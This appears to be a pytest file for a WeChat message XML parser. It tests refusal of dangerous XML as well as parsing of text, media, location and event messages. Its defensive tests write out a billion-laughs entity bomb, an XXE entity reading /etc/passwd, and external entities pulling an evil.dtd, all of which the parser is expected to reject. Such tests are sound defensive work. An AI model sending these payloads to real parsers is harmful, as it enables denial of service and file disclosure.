"""Safe XML parsing and the inbound message model of weizhi.wechat.protocol."""

import contextlib
import random

import pytest

from weizhi.wechat.protocol import (
    BadMessage,
    BadXML,
    BodyTooLarge,
    ClickEvent,
    Event,
    ImageMessage,
    LinkMessage,
    LocationEvent,
    LocationMessage,
    MassSendJobFinishEvent,
    Message,
    ProtocolError,
    PublishedArticle,
    PublishJobFinishEvent,
    ScanEvent,
    ShortVideoMessage,
    SubscribeEvent,
    TemplateSendJobFinishEvent,
    TextMessage,
    UnsubscribeEvent,
    VideoMessage,
    ViewEvent,
    VoiceMessage,
    parse_envelope,
    parse_message,
)

HEAD = (
    "<ToUserName><![CDATA[gh_5f3a2b1c0d9e]]></ToUserName>"
    "<FromUserName><![CDATA[oPq7Xw4Yz9AbCdEfGhIjKlMnOpQr]]></FromUserName>"
    "<CreateTime>1718000000</CreateTime>"
)


def xml(msg_type: str, body: str) -> str:
    return f"<xml>{HEAD}<MsgType><![CDATA[{msg_type}]]></MsgType>{body}</xml>"


def event(name: str, body: str = "") -> str:
    return xml("event", f"<Event><![CDATA[{name}]]></Event>{body}")


# Hostile and malformed XML

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol "lol">'
    '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    f"<xml>{HEAD}<MsgType>text</MsgType><Content>&lol3;</Content></xml>"
)


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(BILLION_LAUGHS, id="billion laughs"),
        pytest.param(
            '<!DOCTYPE xml [<!ENTITY greeting "hi">]><xml><Content>&greeting;</Content></xml>',
            id="internal entity",
        ),
        pytest.param(
            '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            "<xml><Content>&xxe;</Content></xml>",
            id="external entity",
        ),
        pytest.param(
            '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]><xml/>',
            id="external parameter entity",
        ),
        pytest.param(
            '<!DOCTYPE xml SYSTEM "http://example.com/evil.dtd"><xml/>', id="external DTD"
        ),
        pytest.param("<!DOCTYPE xml><xml/>", id="bare DTD"),
    ],
)
def test_it_refuses_dtds_and_entities(body):
    with pytest.raises(BadXML, match="forbidden"):
        parse_message(body)


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"", id="empty"),
        pytest.param(b"   \n", id="blank"),
        pytest.param(b"hello", id="not xml"),
        pytest.param(xml("text", "<Content>hi</Content>")[:-4].encode(), id="truncated"),
        pytest.param(b"<xml><a></b></xml>", id="mismatched tags"),
        pytest.param(b"<xml>\xff\xfe</xml>", id="invalid UTF-8"),
        pytest.param(b"<xml>&nbsp;</xml>", id="undefined entity"),
        pytest.param(b"<root/>", id="wrong root"),
        pytest.param(b"<xml/><xml/>", id="two roots"),
        pytest.param(b"<x:xml xmlns:x='urn:x'/>", id="namespaced root"),
        pytest.param(b"<xml>" + b"<a>" * 20 + b"</a>" * 20 + b"</xml>", id="deep nesting"),
        pytest.param(b"<xml>" + b"<a>" * 9_000 + b"</a>" * 9_000 + b"</xml>", id="very deep"),
    ],
)
def test_malformed_xml_is_bad_xml(body):
    with pytest.raises(BadXML):
        parse_message(body)


def test_it_refuses_a_body_over_the_default_cap_of_64_kib():
    body = xml("text", f"<Content>{'a' * 65_536}</Content>")
    with pytest.raises(BodyTooLarge, match="65536"):
        parse_message(body)


def test_the_body_cap_is_a_parameter():
    body = xml("text", "<Content>hello</Content>")
    assert parse_message(body, max_bytes=len(body)).content == "hello"
    with pytest.raises(BodyTooLarge):
        parse_message(body, max_bytes=len(body) - 1)


def test_random_corruptions_of_a_message_only_ever_raise_protocol_errors():
    original = event(
        "PUBLISHJOBFINISH",
        "<PublishEventInfo><publish_id>1</publish_id><publish_status>0</publish_status>"
        "<article_detail><count>1</count><item><idx>1</idx></item></article_detail>"
        "</PublishEventInfo>",
    ).encode()
    rng = random.Random(20240611)
    for _ in range(3000):
        body = bytearray(original)
        for _ in range(rng.randint(1, 4)):
            position = rng.randrange(len(body))
            body[position] = rng.choice(b"<>/&;![]x0-\x00\xff")
        with contextlib.suppress(ProtocolError):
            parse_message(bytes(body))


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("<xml><MsgType>text</MsgType></xml>", "ToUserName"),
        (f"<xml>{HEAD}</xml>", "MsgType"),
        (xml("text", "").replace("1718000000", "yesterday"), "CreateTime"),
        (xml("event", ""), "Event"),
        (xml("location", "<Location_X>north</Location_X><Location_Y>1</Location_Y>"), "Location_X"),
        (xml("text", "<Content>a</Content><Content>b</Content>"), "Content"),
    ],
)
def test_well_formed_xml_that_is_not_a_message_is_a_bad_message(body, reason):
    with pytest.raises(BadMessage, match=reason):
        parse_message(body)


def test_it_reads_the_safe_mode_envelope():
    envelope = parse_envelope(
        "<xml><ToUserName><![CDATA[gh_5f3a2b1c0d9e]]></ToUserName>"
        "<Encrypt><![CDATA[c2VjcmV0]]></Encrypt></xml>"
    )
    assert (envelope.to_user, envelope.encrypt) == ("gh_5f3a2b1c0d9e", "c2VjcmV0")


def test_an_envelope_without_encrypt_is_a_bad_message():
    with pytest.raises(BadMessage, match="Encrypt"):
        parse_envelope("<xml><ToUserName>gh</ToUserName></xml>")


# Messages


def test_it_parses_a_text_message_with_its_common_fields():
    message = parse_message(
        xml(
            "text",
            "<Content><![CDATA[学习 强国 <b>&amp;</b>]]></Content><MsgId>23456789012345678</MsgId>",
        )
    )
    assert isinstance(message, TextMessage)
    assert message.to_user == "gh_5f3a2b1c0d9e"
    assert message.from_user == "oPq7Xw4Yz9AbCdEfGhIjKlMnOpQr"
    assert message.create_time == 1718000000
    assert message.msg_type == "text"
    assert message.msg_id == "23456789012345678"
    assert message.content == "学习 强国 <b>&amp;</b>"
    assert message.fields["Content"] == message.content
    assert message.dedup_key() == "23456789012345678"


def test_it_parses_an_image_message():
    message = parse_message(
        xml(
            "image",
            "<PicUrl><![CDATA[http://mmbiz.qpic.cn/abc/0]]></PicUrl>"
            "<MediaId><![CDATA[media_img_1]]></MediaId><MsgId>1</MsgId>",
        )
    )
    assert isinstance(message, ImageMessage)
    assert (message.pic_url, message.media_id) == ("http://mmbiz.qpic.cn/abc/0", "media_img_1")


def test_it_parses_a_voice_message_with_and_without_recognition():
    body = "<MediaId><![CDATA[media_v]]></MediaId><Format><![CDATA[amr]]></Format><MsgId>2</MsgId>"
    plain = parse_message(xml("voice", body))
    assert isinstance(plain, VoiceMessage)
    assert (plain.media_id, plain.format, plain.recognition) == ("media_v", "amr", None)
    recognised = parse_message(
        xml("voice", body + "<Recognition><![CDATA[今天天气]]></Recognition>")
    )
    assert recognised.recognition == "今天天气"


@pytest.mark.parametrize(
    ("msg_type", "cls"), [("video", VideoMessage), ("shortvideo", ShortVideoMessage)]
)
def test_it_parses_video_and_short_video_messages(msg_type, cls):
    message = parse_message(
        xml(
            msg_type,
            "<MediaId><![CDATA[media_vid]]></MediaId>"
            "<ThumbMediaId><![CDATA[thumb_vid]]></ThumbMediaId><MsgId>3</MsgId>",
        )
    )
    assert type(message) is cls
    assert (message.media_id, message.thumb_media_id) == ("media_vid", "thumb_vid")


def test_it_parses_a_location_message():
    message = parse_message(
        xml(
            "location",
            "<Location_X>39.904200</Location_X><Location_Y>116.407400</Location_Y>"
            "<Scale>15</Scale><Label><![CDATA[北京市东城区]]></Label><MsgId>4</MsgId>",
        )
    )
    assert isinstance(message, LocationMessage)
    assert (message.latitude, message.longitude) == (39.9042, 116.4074)
    assert (message.scale, message.label) == (15, "北京市东城区")


def test_it_parses_a_link_message():
    message = parse_message(
        xml(
            "link",
            "<Title><![CDATA[党课]]></Title><Description><![CDATA[第一讲]]></Description>"
            "<Url><![CDATA[https://example.com/a]]></Url><MsgId>5</MsgId>",
        )
    )
    assert isinstance(message, LinkMessage)
    assert (message.title, message.description, message.url) == (
        "党课",
        "第一讲",
        "https://example.com/a",
    )


def test_it_parses_a_plain_subscribe_event():
    message = parse_message(event("subscribe", "<EventKey><![CDATA[]]></EventKey>"))
    assert isinstance(message, SubscribeEvent)
    assert (message.event, message.event_key, message.scene, message.ticket) == (
        "subscribe",
        None,
        None,
        None,
    )
    assert message.msg_id is None
    assert message.dedup_key() == "oPq7Xw4Yz9AbCdEfGhIjKlMnOpQr|1718000000|subscribe|"


def test_it_parses_a_subscribe_event_from_a_qr_code():
    message = parse_message(
        event(
            "subscribe",
            "<EventKey><![CDATA[qrscene_branch42]]></EventKey><Ticket><![CDATA[gQH47joAAA]]></Ticket>",
        )
    )
    assert isinstance(message, SubscribeEvent)
    assert (message.event_key, message.scene, message.ticket) == (
        "qrscene_branch42",
        "branch42",
        "gQH47joAAA",
    )
    assert message.dedup_key().endswith("|subscribe|qrscene_branch42")


def test_it_parses_an_unsubscribe_event():
    assert isinstance(parse_message(event("unsubscribe")), UnsubscribeEvent)


def test_it_parses_a_scan_event():
    message = parse_message(
        event("SCAN", "<EventKey><![CDATA[123123]]></EventKey><Ticket><![CDATA[TICKET]]></Ticket>")
    )
    assert isinstance(message, ScanEvent)
    assert (message.scene, message.ticket) == ("123123", "TICKET")


def test_it_parses_a_location_event():
    message = parse_message(
        event(
            "LOCATION",
            "<Latitude>23.137466</Latitude><Longitude>113.352425</Longitude>"
            "<Precision>119.385040</Precision>",
        )
    )
    assert isinstance(message, LocationEvent)
    assert (message.latitude, message.longitude, message.precision) == (
        23.137466,
        113.352425,
        119.38504,
    )


def test_it_parses_a_click_event():
    message = parse_message(event("CLICK", "<EventKey><![CDATA[QUIZ_TODAY]]></EventKey>"))
    assert isinstance(message, ClickEvent)
    assert message.event_key == "QUIZ_TODAY"
    assert message.dedup_key().endswith("|CLICK|QUIZ_TODAY")


def test_it_parses_a_view_event():
    message = parse_message(
        event(
            "VIEW",
            "<EventKey><![CDATA[https://example.com/news]]></EventKey><MenuId>208379533</MenuId>",
        )
    )
    assert isinstance(message, ViewEvent)
    assert (message.url, message.menu_id) == ("https://example.com/news", "208379533")


def test_it_parses_a_template_send_job_finish_event():
    message = parse_message(
        event(
            "TEMPLATESENDJOBFINISH", "<MsgID>200163836</MsgID><Status><![CDATA[success]]></Status>"
        )
    )
    assert isinstance(message, TemplateSendJobFinishEvent)
    assert (message.status, message.job_id, message.msg_id) == ("success", "200163836", None)


def test_it_parses_a_mass_send_job_finish_event():
    message = parse_message(
        event(
            "MASSSENDJOBFINISH",
            "<MsgID>1000001625</MsgID><Status><![CDATA[err(30003)]]></Status>"
            "<TotalCount>100</TotalCount><FilterCount>80</FilterCount>"
            "<SentCount>75</SentCount><ErrorCount>5</ErrorCount>"
            "<CopyrightCheckResult><Count>0</Count><ResultList/><CheckState>1</CheckState>"
            "</CopyrightCheckResult>",
        )
    )
    assert isinstance(message, MassSendJobFinishEvent)
    assert (message.status, message.job_id) == ("err(30003)", "1000001625")
    assert (message.total_count, message.filter_count, message.sent_count, message.error_count) == (
        100,
        80,
        75,
        5,
    )
    assert message.fields["CopyrightCheckResult"]["CheckState"] == "1"


def test_it_parses_a_publish_job_finish_event_with_its_articles():
    message = parse_message(
        event(
            "PUBLISHJOBFINISH",
            "<PublishEventInfo><publish_id>2247503051</publish_id>"
            "<publish_status>0</publish_status>"
            "<article_id><![CDATA[b5O2OUs25HBxRceL7hfReg]]></article_id>"
            "<article_detail><count>2</count>"
            "<item><idx>1</idx><article_url><![CDATA[https://mp.weixin.qq.com/s/a]]></article_url></item>"
            "<item><idx>2</idx><article_url><![CDATA[https://mp.weixin.qq.com/s/b]]></article_url></item>"
            "</article_detail></PublishEventInfo>",
        )
    )
    assert isinstance(message, PublishJobFinishEvent)
    assert (message.publish_id, message.publish_status, message.article_id) == (
        "2247503051",
        0,
        "b5O2OUs25HBxRceL7hfReg",
    )
    assert message.articles == (
        PublishedArticle(1, "https://mp.weixin.qq.com/s/a"),
        PublishedArticle(2, "https://mp.weixin.qq.com/s/b"),
    )
    assert message.fail_idx == ()


def test_it_parses_a_failed_publish_job_with_its_failed_indexes():
    message = parse_message(
        event(
            "PUBLISHJOBFINISH",
            "<PublishEventInfo><publish_id>2247503052</publish_id>"
            "<publish_status>2</publish_status><fail_idx>1</fail_idx><fail_idx>3</fail_idx>"
            "</PublishEventInfo>",
        )
    )
    assert (message.publish_status, message.fail_idx, message.articles) == (2, (1, 3), ())
    assert message.article_id is None


def test_event_names_match_whatever_their_case():
    assert isinstance(parse_message(event("scan", "<EventKey>1</EventKey>")), ScanEvent)
    assert isinstance(parse_message(event("Subscribe")), SubscribeEvent)


def test_an_unknown_message_type_is_kept_as_a_generic_message():
    message = parse_message(
        xml("miniprogrampage", "<Title><![CDATA[小程序]]></Title><MsgId>99</MsgId>")
    )
    assert type(message) is Message
    assert message.msg_type == "miniprogrampage"
    assert message.fields["Title"] == "小程序"
    assert message.dedup_key() == "99"


def test_an_unknown_event_is_kept_as_a_generic_event():
    message = parse_message(
        event(
            "scancode_push",
            "<EventKey><![CDATA[rselfmenu_0_1]]></EventKey>"
            "<ScanCodeInfo><ScanType><![CDATA[qrcode]]></ScanType>"
            "<ScanResult><![CDATA[1]]></ScanResult></ScanCodeInfo>",
        )
    )
    assert type(message) is Event
    assert (message.event, message.event_key) == ("scancode_push", "rselfmenu_0_1")
    assert message.fields["ScanCodeInfo"]["ScanType"] == "qrcode"


def test_an_unknown_type_without_msg_id_still_has_a_dedup_key():
    message = parse_message(xml("mystery", ""))
    assert message.dedup_key() == "oPq7Xw4Yz9AbCdEfGhIjKlMnOpQr|1718000000|mystery"


def test_messages_are_frozen():
    message = parse_message(xml("text", "<Content>hi</Content>"))
    with pytest.raises(AttributeError):
        message.content = "changed"
